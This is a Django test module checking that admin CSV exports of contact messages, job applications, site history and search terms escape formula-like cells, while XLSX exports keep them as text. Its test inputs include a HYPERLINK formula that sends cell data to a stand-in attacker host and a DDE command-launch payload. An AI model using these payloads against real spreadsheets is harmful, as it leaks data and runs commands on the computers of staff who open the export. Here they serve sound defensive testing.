"""CSV injection: what a visitor typed must reach a spreadsheet as text, never as a formula.
Every CSV the admin exports escapes a cell that starts like a formula with a leading apostrophe;
the XLSX export keeps the raw value, already stored as text."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from careers.demo import HIRING_GROUP
from home.models import ContactPage
from tests.careers.conftest import private_media  # noqa: F401 (resumes go to a temporary folder)
from tests.careers.factories import make_application, staff_user
from tests.support import CONTACT_POST

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open CV")'
PHONE = "+1 312 555 0100"
APPLICATIONS_URL = "/admin/careers/jobapplication/"


def download(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(download(response).decode())))


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active
    return [list(row) for row in sheet.iter_rows()]


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def superuser_client():
    """A browser of its own, beside the visitor's or the hiring manager's."""
    browser = Client()
    browser.force_login(get_user_model().objects.create_superuser("chief", "chief@example.org"))
    return browser


@pytest.fixture
def contact_message(client):
    """A message sent through the public contact form by someone who typed a formula."""
    post = {
        **CONTACT_POST,
        "your_name": FORMULA,
        "phone_or_email": PHONE,
        "preferred_way_to_contact_you": "Phone call",
    }
    assert "Thank you" in client.post("/contact/", post).text
    return ContactPage.objects.get(locale__language_code="en")


@pytest.fixture
def hiring_manager_client(client, django_user_model):
    application = make_application(name=FORMULA)
    application.phone = PHONE
    application.save()
    client.force_login(staff_user(django_user_model, "manager", groups=[HIRING_GROUP]))
    return client


def test_contact_messages_csv_escapes_a_formula_and_keeps_the_phone_number_readable(
    contact_message, superuser_client
):
    url = reverse("wagtailforms:list_submissions", args=[contact_message.pk])
    rows = csv_rows(superuser_client.get(url, {"export": "csv"}))
    assert column(rows, "Your name") == ["'" + FORMULA]
    assert column(rows, "Phone or email") == ["'" + PHONE]
    # Ordinary answers are left as they were.
    assert column(rows, "Preferred way to contact you") == ["Phone call"]


def test_contact_messages_xlsx_holds_the_raw_value_as_text(contact_message, superuser_client):
    url = reverse("wagtailforms:list_submissions", args=[contact_message.pk])
    rows = xlsx_cells(superuser_client.get(url, {"export": "xlsx"}))
    headings = [cell.value for cell in rows[0]]
    name = rows[1][headings.index("Your name")]
    assert name.value == FORMULA and name.data_type == "s"
    assert rows[1][headings.index("Phone or email")].value == PHONE


def test_a_field_label_typed_as_a_formula_is_escaped_in_the_csv_heading(
    contact_message, superuser_client
):
    field = contact_message.form_fields.get(clean_name="your_name")
    field.label = "=1+1"
    field.save()
    url = reverse("wagtailforms:list_submissions", args=[contact_message.pk])
    rows = csv_rows(superuser_client.get(url, {"export": "csv"}))
    assert "'=1+1" in rows[0]


def test_applications_csv_escapes_a_formula_and_keeps_the_phone_number_readable(
    hiring_manager_client,
):
    rows = csv_rows(hiring_manager_client.get(APPLICATIONS_URL, {"export": "csv"}))
    assert column(rows, "Applicant") == ["'" + FORMULA]
    assert column(rows, "Phone") == ["'" + PHONE]
    assert column(rows, "Status") == ["New"]


def test_applications_xlsx_holds_the_raw_value_as_text(hiring_manager_client):
    rows = xlsx_cells(hiring_manager_client.get(APPLICATIONS_URL, {"export": "xlsx"}))
    assert rows[1][0].value == FORMULA and rows[1][0].data_type == "s"
    assert rows[1][2].value == PHONE


def test_an_empty_answer_exported_as_a_dash_stays_a_dash(hiring_manager_client):
    # A single character cannot hold a formula: the list's "-" for an empty phone stays as is.
    application = make_application(name="Alex Kim")
    application.phone = ""
    application.save()
    rows = csv_rows(hiring_manager_client.get(APPLICATIONS_URL, {"export": "csv"}))
    assert "-" in column(rows, "Phone")


def test_site_history_csv_escapes_an_applicants_name(hiring_manager_client, superuser_client):
    # Moving an application along logs it under the applicant's name, as they typed it.
    application = make_application(name=FORMULA)
    edit_url = f"{APPLICATIONS_URL}edit/{application.pk}/"
    assert hiring_manager_client.post(edit_url, {"status": "reviewing"}).status_code == 302
    url = reverse("wagtailadmin_reports:site_history")
    names = column(csv_rows(superuser_client.get(url, {"export": "csv"})), "Name")
    assert f"'{FORMULA} — {application.job_title}" in names
    assert not any(name.startswith("=") for name in names)


def test_search_terms_csv_escapes_what_a_visitor_searched_for(client, superuser_client):
    assert client.get("/search/", {"q": "=cmd|' /c calc'!A0 therapy"}).status_code == 200
    url = reverse("wagtailsearchpromotions:search_terms")
    terms = column(csv_rows(superuser_client.get(url, {"export": "csv"})), "Search term(s)")
    assert "'=cmd|' /c calc'!a0 therapy" in terms
